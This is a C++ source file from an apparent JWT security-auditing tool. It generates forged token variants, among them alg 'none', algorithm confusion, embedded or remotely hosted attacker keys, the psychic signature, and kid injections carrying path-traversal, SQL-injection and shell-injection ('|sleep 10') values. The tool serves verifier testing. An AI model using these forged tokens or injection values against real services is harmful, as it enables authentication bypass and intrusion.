// SPDX-License-Identifier: Apache-2.0
#include "audit/AttackVariants.h"

#include "audit/detail/HeaderSplice.h"
#include "crypto/SecureBytes.h"
#include "encoding/Base64Url.h"
#include "jwk/KeyExport.h"
#include "jwk/KeyGenerator.h"
#include "jwk/KeyLoader.h"
#include "jws/JwsSigner.h"
#include "jws/KeyPolicy.h"

namespace assay {

namespace {

using detail::jsonStringLiteral;
using detail::setJsonMember;

const QString kLabel = QStringLiteral("Attack variant: ");

// The parts of the original a variant starts from. Copies: the original token is never touched.
struct Original
{
    QByteArray headerRaw;  // the protected header's base64url text, exactly as received
    QByteArray headerJson; // its decoded JSON text
    QByteArray payloadRaw; // the payload part exactly as received (base64url, or the bytes when b64 is false)
    QByteArray payloadBytes;
    QByteArray signatureRaw;
    std::optional<JwsAlgorithm> alg;
    bool unencoded = false;
};

Result<Original> readOriginal(const ParsedToken& token)
{
    if (!token.isJws() || token.signatures.isEmpty())
        return fail(ErrorCode::TokenStructure, QStringLiteral("attack variants are made from a JWS"), Segment::Input);
    const JwsSignatureEntry& entry = token.signatures.front();
    if (!entry.header || !entry.header->isObject()) {
        return fail(ErrorCode::JsonNotObject,
                    QStringLiteral("the token's header must be a readable JSON object to make attack variants"),
                    Segment::Header);
    }
    if (token.payload.error)
        return fail(*token.payload.error);
    Original o;
    o.headerRaw = entry.protectedHeader.raw;
    o.headerJson = entry.header->raw();
    o.payloadRaw = token.payload.raw;
    o.payloadBytes = token.payload.bytes;
    o.signatureRaw = entry.signature.raw;
    o.unencoded = token.payloadUnencoded;
    if (const auto alg = entry.header->member(u"alg")) {
        if (const auto name = alg->toString())
            o.alg = jwsAlgorithmFromName(*name);
    }
    return o;
}

QByteArray compact(QByteArrayView headerJson, QByteArrayView payloadRaw, QByteArrayView signatureB64)
{
    return base64url::encode(headerJson) + '.' + payloadRaw.toByteArray() + '.' + signatureB64.toByteArray();
}

// Signs exactly `base64url(header).payloadRaw` with the core's signer. Weak keys are allowed on purpose: these tokens
// exist to test other verifiers, and the kid-injection keys are weak by design.
Result<QByteArray> signed_(QByteArrayView headerJson, QByteArrayView payloadRaw, const Key& key, JwsAlgorithm alg)
{
    const QByteArray signingInput = base64url::encode(headerJson) + '.' + payloadRaw.toByteArray();
    SignOptions options;
    options.allowWeakKey = true;
    auto signature = signSigningInput(signingInput, key, alg, options);
    if (!signature)
        return fail(signature.error());
    return signingInput + '.' + *signature;
}

Result<QByteArray> withAlg(QByteArrayView headerJson, QStringView alg)
{
    return setJsonMember(headerJson, u"alg", jsonStringLiteral(alg));
}

AttackVariant variant(AttackKind kind, QString name, QString label, QString id, QString explanation, QByteArray token)
{
    AttackVariant v;
    v.kind = kind;
    v.name = attackKindName(kind) + (name.isEmpty() ? QString() : QLatin1Char('/') + name);
    v.label = kLabel + label;
    v.attackId = std::move(id);
    v.explanation = std::move(explanation);
    v.token = std::move(token);
    return v;
}

Result<QList<AttackVariant>> algNone(const Original& o)
{
    QList<AttackVariant> out;
    // jwt_tool's checkAlgNone spellings (ATTACKS.md A01, A02).
    for (const QString& spelling :
         {QStringLiteral("none"), QStringLiteral("None"), QStringLiteral("NONE"), QStringLiteral("nOnE")}) {
        auto header = withAlg(o.headerJson, spelling);
        if (!header)
            return fail(header.error());
        const bool exact = spelling == QLatin1String("none");
        out.append(variant(AttackKind::AlgNone, spelling,
                           QStringLiteral("alg \"%1\"%2, no signature")
                               .arg(spelling, exact ? QString() : QStringLiteral(" (case variant)")),
                           exact ? QStringLiteral("A01") : QStringLiteral("A02"),
                           exact ? QStringLiteral("a verifier that lets the header choose the algorithm skips the "
                                                  "signature check (CVE-2022-23540; jwt_tool -X a)")
                                 : QStringLiteral("a verifier that blocks \"none\" case-sensitively but matches "
                                                  "algorithm names case-insensitively skips the signature check"),
                           compact(*header, o.payloadRaw, {})));
    }
    return out;
}

Result<QList<AttackVariant>> emptySignature(const Original& o)
{
    if (o.signatureRaw.isEmpty())
        return fail(ErrorCode::Usage, QStringLiteral("the signature is already empty"), Segment::Signature);
    const QByteArray token = o.headerRaw + '.' + o.payloadRaw + '.';
    return QList<AttackVariant>{variant(AttackKind::EmptySignature, {}, QStringLiteral("signature removed"),
                                        QStringLiteral("A03"),
                                        QStringLiteral("a verifier that compares only as many bytes as it received "
                                                       "accepts an empty signature (CVE-2020-28042; jwt_tool -X n)"),
                                        token)};
}

Result<QByteArray> publicKeyText(const AttackOptions& options)
{
    QByteArray text = options.publicKeyText;
    if (text.isEmpty() && !options.publicKey.isNull()) {
        auto pem = exportKey(options.publicKey, KeyStructure::Spki, KeyEncoding::Pem);
        if (!pem)
            return fail(pem.error());
        text = pem->view().toByteArray();
    }
    while (text.endsWith('\n') || text.endsWith('\r'))
        text.chop(1);
    if (text.isEmpty()) {
        return fail(ErrorCode::Usage,
                    QStringLiteral("the algorithm-confusion variant needs the original's public key (its PEM text)"),
                    Segment::Key);
    }
    return text;
}

// The HMAC of the same strength as the original algorithm (RS384 -> HS384); HS256 when it has none.
JwsAlgorithm hmacFor(std::optional<JwsAlgorithm> alg)
{
    switch (alg ? algorithmHash(*alg) : HashAlgorithm::None) {
    case HashAlgorithm::Sha384:
        return JwsAlgorithm::HS384;
    case HashAlgorithm::Sha512:
        return JwsAlgorithm::HS512;
    default:
        return JwsAlgorithm::HS256;
    }
}

Result<QList<AttackVariant>> hmacPublicKey(const Original& o, const AttackOptions& options)
{
    auto text = publicKeyText(options);
    if (!text)
        return fail(text.error());
    const JwsAlgorithm alg = hmacFor(o.alg);
    auto header = withAlg(o.headerJson, jwsAlgorithmName(alg));
    if (!header)
        return fail(header.error());
    QList<AttackVariant> out;
    for (const bool newline : {false, true}) {
        QByteArray secret = *text;
        if (newline)
            secret += '\n';
        auto key = keyFromSecret(secret, SecretEncoding::Utf8);
        wipe(secret);
        if (!key)
            return fail(key.error());
        auto token = signed_(*header, o.payloadRaw, *key, alg);
        if (!token)
            return fail(token.error());
        out.append(variant(AttackKind::HmacPublicKey,
                           newline ? QStringLiteral("newline") : QStringLiteral("no-newline"),
                           QStringLiteral("%1 with the public key as HMAC secret (%2)")
                               .arg(jwsAlgorithmName(alg), newline ? QStringLiteral("with a trailing newline")
                                                                   : QStringLiteral("no trailing newline")),
                           QStringLiteral("A04"),
                           QStringLiteral("a verifier that takes alg from the header and feeds its public key text to "
                                          "HMAC accepts it (CVE-2015-9235, CVE-2016-10555)"),
                           *token));
    }
    return out;
}

Result<Key> freshKeyFor(std::optional<JwsAlgorithm> alg)
{
    const AlgorithmFamily family = alg ? algorithmFamily(*alg) : AlgorithmFamily::None;
    if (family == AlgorithmFamily::RsaPkcs1 || family == AlgorithmFamily::RsaPss)
        return generateKey(KeyType::RSA, Curve::None, 2048);
    switch (alg.value_or(JwsAlgorithm::None)) {
    case JwsAlgorithm::ES384:
        return generateKey(KeyType::EC, Curve::P384);
    case JwsAlgorithm::ES512:
        return generateKey(KeyType::EC, Curve::P521);
    case JwsAlgorithm::ES256K:
        return generateKey(KeyType::EC, Curve::Secp256k1);
    case JwsAlgorithm::EdDSA:
    case JwsAlgorithm::Ed25519:
        return generateKey(KeyType::OKP, Curve::Ed25519);
    case JwsAlgorithm::Ed448:
        return generateKey(KeyType::OKP, Curve::Ed448);
    default:
        return generateKey(KeyType::EC, Curve::P256); // HMAC, none and unknown: a small, fast key
    }
}

struct AttackerKey
{
    Key key;
    JwsAlgorithm alg = JwsAlgorithm::ES256;
};

Result<AttackerKey> attackerKey(const Original& o, const AttackOptions& options)
{
    Key key = options.attackerKey;
    if (key.isNull()) {
        auto fresh = freshKeyFor(o.alg);
        if (!fresh)
            return fail(fresh.error());
        key = *fresh;
    }
    if (key.isSymmetric() || !key.hasPrivate()) {
        return fail(ErrorCode::KeyNotPrivate,
                    QStringLiteral("the attacker key must be a private asymmetric key (its public half is published)"),
                    Segment::Key);
    }
    const QList<JwsAlgorithm> algs = algorithmsForKey(key);
    if (algs.isEmpty())
        return fail(ErrorCode::AlgNotAllowedForKey, QStringLiteral("the attacker key signs no JWS algorithm"),
                    Segment::Key);
    return AttackerKey{key, o.alg && algs.contains(*o.alg) ? *o.alg : algs.front()};
}

Result<QList<AttackVariant>> embeddedJwk(const Original& o, const AttackerKey& attacker)
{
    auto jwk = attacker.key.toJwk(false);
    if (!jwk)
        return fail(jwk.error());
    auto header = withAlg(o.headerJson, jwsAlgorithmName(attacker.alg));
    if (header)
        header = setJsonMember(*header, u"jwk", *jwk);
    if (!header)
        return fail(header.error());
    auto token = signed_(*header, o.payloadRaw, attacker.key, attacker.alg);
    if (!token)
        return fail(token.error());
    return QList<AttackVariant>{
        variant(AttackKind::EmbeddedJwk, {},
                QStringLiteral("%1 signed by a fresh key embedded as jwk").arg(jwsAlgorithmName(attacker.alg)),
                QStringLiteral("A06"),
                QStringLiteral("a verifier that trusts the header's own jwk accepts a token signed by anyone "
                               "(CVE-2018-0114; jwt_tool -X i)"),
                *token)};
}

Result<QList<AttackVariant>> keyUrl(AttackKind kind, const Original& o, const AttackOptions& options,
                                    const AttackerKey& attacker)
{
    const bool jku = kind == AttackKind::JkuUrl;
    const QString member = jku ? QStringLiteral("jku") : QStringLiteral("x5u");
    if (options.keyUrl.isEmpty())
        return fail(ErrorCode::Usage, QStringLiteral("the %1 variant needs the URL you host the key at").arg(member));
    const QString algName = jwsAlgorithmName(attacker.alg);
    auto kid = attacker.key.thumbprint();
    if (!kid)
        return fail(kid.error());
    auto header = withAlg(o.headerJson, algName);
    if (header)
        header = setJsonMember(*header, member, jsonStringLiteral(options.keyUrl));
    if (header && jku)
        header = setJsonMember(*header, u"kid", jsonStringLiteral(*kid)); // so the hosted set's key is the one picked
    if (!header)
        return fail(header.error());
    auto token = signed_(*header, o.payloadRaw, attacker.key, attacker.alg);
    if (!token)
        return fail(token.error());

    AttackVariant v =
        variant(kind, {}, QStringLiteral("%1 -> %2, %3 signed by a fresh key").arg(member, options.keyUrl, algName),
                QStringLiteral("A07"),
                QStringLiteral("a verifier that fetches %1 trusts whatever key you host there, and "
                               "can be pointed at internal addresses (jwt_tool -X s)")
                    .arg(member),
                *token);
    if (jku) {
        auto jwk = attacker.key.withMetadata(*kid, algName, QStringLiteral("sig")).toJwk(false);
        if (!jwk)
            return fail(jwk.error());
        v.companion = QByteArrayLiteral("{\"keys\":[") + *jwk + QByteArrayLiteral("]}");
        v.companionNote = QStringLiteral("the JWK Set to serve at %1 (public key only)").arg(options.keyUrl);
    } else {
        auto jwk = attacker.key.toJwk(true);
        if (!jwk)
            return fail(jwk.error());
        v.companion = *jwk;
        v.companionNote = QStringLiteral("the fresh private key (JWK): issue a certificate for it and serve the PEM "
                                         "at %1")
                              .arg(options.keyUrl);
    }
    return QList<AttackVariant>{v};
}

Result<QList<AttackVariant>> kidInjection(const Original& o)
{
    struct Payload
    {
        const char* name;
        const char* kid;
        const char* secretHex; // the key the injected lookup would produce
        const char* what;
    };
    // ATTACKS.md A09 and jwt_tool's kid tests. The empty key (what /dev/null reads as) is written as the single byte
    // 0x00: RFC 2104 pads a key shorter than the hash block with zeros, so HMAC with 0x00 equals HMAC with the empty
    // key, which the core's signer rightly refuses to use (A10).
    static const Payload payloads[] = {
        {"path-traversal", "../../../../../../dev/null", "00", "path traversal to /dev/null, HS256 with the empty key"},
        {"sql", "' UNION SELECT 'key' --", "6b6579", "SQL injection selecting 'key', HS256 with \"key\""},
        {"shell", "|sleep 10", "00", "shell injection (a 10 s delay shows it ran), HS256 with the empty key"},
    };
    QList<AttackVariant> out;
    for (const Payload& p : payloads) {
        auto header = withAlg(o.headerJson, u"HS256");
        if (header)
            header = setJsonMember(*header, u"kid", jsonStringLiteral(QString::fromUtf8(p.kid)));
        if (!header)
            return fail(header.error());
        auto key = keyFromSecret(p.secretHex, SecretEncoding::Hex);
        if (!key)
            return fail(key.error());
        auto token = signed_(*header, o.payloadRaw, *key, JwsAlgorithm::HS256);
        if (!token)
            return fail(token.error());
        out.append(variant(AttackKind::KidInjection, QString::fromLatin1(p.name),
                           QStringLiteral("kid %1").arg(QString::fromUtf8(p.what)), QStringLiteral("A09"),
                           QStringLiteral("a server that builds a file path, SQL query or shell command from kid "
                                          "picks a key the attacker knows"),
                           *token));
    }
    return out;
}

Result<QList<AttackVariant>> psychicSignature(const Original& o)
{
    int size = 0;
    switch (o.alg.value_or(JwsAlgorithm::None)) {
    case JwsAlgorithm::ES256:
    case JwsAlgorithm::ES256K:
        size = 64;
        break;
    case JwsAlgorithm::ES384:
        size = 96;
        break;
    case JwsAlgorithm::ES512:
        size = 132;
        break;
    default:
        return fail(ErrorCode::AlgUnsupported,
                    QStringLiteral("the psychic signature applies to ES256, ES384, ES512 and ES256K tokens"),
                    Segment::Header);
    }
    const QByteArray token = o.headerRaw + '.' + o.payloadRaw + '.' + base64url::encode(QByteArray(size, '\0'));
    return QList<AttackVariant>{variant(AttackKind::PsychicSignature, {},
                                        QStringLiteral("psychic signature (r = s = 0, %1 zero bytes)").arg(size),
                                        QStringLiteral("A12"),
                                        QStringLiteral("Java 15 to 18 accepted r = s = 0 as a valid ECDSA signature "
                                                       "of any message (CVE-2022-21449)"),
                                        token)};
}

Result<QList<AttackVariant>> b64Flip(const Original& o, const AttackOptions& options)
{
    if (o.unencoded) {
        // Same header and signature, payload re-encoded: a verifier that ignores b64 reads the original claims but
        // checks a different signing input; one that honours it must reject.
        const QByteArray token = o.headerRaw + '.' + base64url::encode(o.payloadBytes) + '.' + o.signatureRaw;
        return QList<AttackVariant>{variant(AttackKind::B64Flip, QStringLiteral("encode"),
                                            QStringLiteral("b64:false header over a base64url payload"),
                                            QStringLiteral("A18"),
                                            QStringLiteral("a verifier that ignores b64 (RFC 7797) checks another "
                                                           "signing input than the signer used"),
                                            token)};
    }
    if (o.payloadBytes.isEmpty())
        return fail(ErrorCode::Usage, QStringLiteral("the payload is empty or detached: nothing to flip"),
                    Segment::Payload);
    if (o.payloadBytes.contains('.')) {
        return fail(ErrorCode::B64Invalid,
                    QStringLiteral("the payload contains '.', so it cannot travel unencoded in a compact token "
                                   "(RFC 7797 section 5.2)"),
                    Segment::Payload);
    }
    // b64:false without listing it in crit: RFC 7797 section 6 requires crit, so a correct verifier rejects it; a
    // verifier that honours b64 anyway, or one that ignores b64 and checks the text as received, accepts it.
    auto header = setJsonMember(o.headerJson, u"b64", "false");
    if (!header)
        return fail(header.error());
    QByteArray token;
    QString how;
    if (!options.b64SigningKey.isNull() && o.alg) {
        auto made = signed_(*header, o.payloadBytes, options.b64SigningKey, *o.alg);
        if (!made)
            return fail(made.error());
        token = *made;
        how = QStringLiteral("re-signed with your key");
    } else {
        token = compact(*header, o.payloadBytes, o.signatureRaw);
        how = QStringLiteral("original signature");
    }
    return QList<AttackVariant>{variant(AttackKind::B64Flip, QStringLiteral("unencode"),
                                        QStringLiteral("b64 false without crit, unencoded payload (%1)").arg(how),
                                        QStringLiteral("A18"),
                                        QStringLiteral("a verifier that honours b64 without requiring crit (RFC 7797 "
                                                       "section 6) reads claims from an unencoded payload"),
                                        token)};
}

Result<QList<AttackVariant>> make(AttackKind kind, const Original& o, const AttackOptions& options)
{
    switch (kind) {
    case AttackKind::AlgNone:
        return algNone(o);
    case AttackKind::EmptySignature:
        return emptySignature(o);
    case AttackKind::HmacPublicKey:
        return hmacPublicKey(o, options);
    case AttackKind::EmbeddedJwk:
    case AttackKind::JkuUrl:
    case AttackKind::X5uUrl: {
        if ((kind == AttackKind::JkuUrl || kind == AttackKind::X5uUrl) && options.keyUrl.isEmpty()) {
            return fail(ErrorCode::Usage,
                        QStringLiteral("the %1 variant needs the URL you host the key at").arg(attackKindName(kind)));
        }
        auto attacker = attackerKey(o, options);
        if (!attacker)
            return fail(attacker.error());
        return kind == AttackKind::EmbeddedJwk ? embeddedJwk(o, *attacker) : keyUrl(kind, o, options, *attacker);
    }
    case AttackKind::KidInjection:
        return kidInjection(o);
    case AttackKind::PsychicSignature:
        return psychicSignature(o);
    case AttackKind::B64Flip:
        return b64Flip(o, options);
    }
    return fail(ErrorCode::Internal, QStringLiteral("unknown attack kind"));
}

} // namespace

QString attackKindName(AttackKind kind)
{
    switch (kind) {
    case AttackKind::AlgNone:
        return QStringLiteral("alg-none");
    case AttackKind::EmptySignature:
        return QStringLiteral("empty-signature");
    case AttackKind::HmacPublicKey:
        return QStringLiteral("hmac-public-key");
    case AttackKind::EmbeddedJwk:
        return QStringLiteral("embedded-jwk");
    case AttackKind::JkuUrl:
        return QStringLiteral("jku");
    case AttackKind::X5uUrl:
        return QStringLiteral("x5u");
    case AttackKind::KidInjection:
        return QStringLiteral("kid-injection");
    case AttackKind::PsychicSignature:
        return QStringLiteral("psychic-signature");
    case AttackKind::B64Flip:
        return QStringLiteral("b64-flip");
    }
    return {};
}

QList<AttackKind> allAttackKinds()
{
    return {AttackKind::AlgNone,      AttackKind::EmptySignature,   AttackKind::HmacPublicKey,
            AttackKind::EmbeddedJwk,  AttackKind::JkuUrl,           AttackKind::X5uUrl,
            AttackKind::KidInjection, AttackKind::PsychicSignature, AttackKind::B64Flip};
}

std::optional<AttackKind> attackKindFromName(QStringView name)
{
    for (AttackKind kind : allAttackKinds()) {
        if (name == attackKindName(kind))
            return kind;
    }
    return std::nullopt;
}

Result<QList<AttackVariant>> makeAttackVariants(AttackKind kind, const ParsedToken& original,
                                                const AttackOptions& options)
{
    auto o = readOriginal(original);
    if (!o)
        return fail(o.error());
    return make(kind, *o, options);
}

QList<AttackVariant> attackVariants(const ParsedToken& original, const AttackOptions& options)
{
    QList<AttackVariant> out;
    auto o = readOriginal(original);
    if (!o)
        return out;
    AttackOptions shared = options;
    if (shared.attackerKey.isNull()) {
        // One fresh key for the embedded-jwk, jku and x5u variants (RSA generation is the slow part).
        if (auto fresh = freshKeyFor(o->alg))
            shared.attackerKey = *fresh;
    }
    for (AttackKind kind : allAttackKinds()) {
        if (auto made = make(kind, *o, shared))
            out.append(*made);
    }
    return out;
}

} // namespace assay
